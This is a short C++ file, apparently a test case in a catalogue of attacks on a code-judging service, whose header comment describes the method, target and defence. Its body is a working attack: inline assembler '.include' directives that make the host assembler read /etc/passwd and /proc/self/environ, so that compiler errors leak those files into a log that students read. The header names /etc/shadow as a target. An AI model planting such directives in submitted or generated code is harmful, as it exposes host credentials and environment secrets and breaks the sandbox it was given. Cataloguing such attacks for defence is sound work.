// Has the assembler quote the host's files.
//
// Mechanism: the host assembler has its own .include and .incbin, past every rule of the preprocessor; an error
//   quotes a line that is no instruction.
// Surface: a compiler that sees the host's files, and a log that students read.
// Gain: as by #include.
// Challenge: twice
// Like: incbin_shadow
// Defence: compile_error
// On: cpu
// Box: docker
// Secret: /etc/passwd, /etc/shadow

#include <cstdint>
asm(".include \"/etc/passwd\"");
asm(".include \"/proc/self/environ\"");
extern "C" void solve(const float* x, float* out, int64_t n) {}
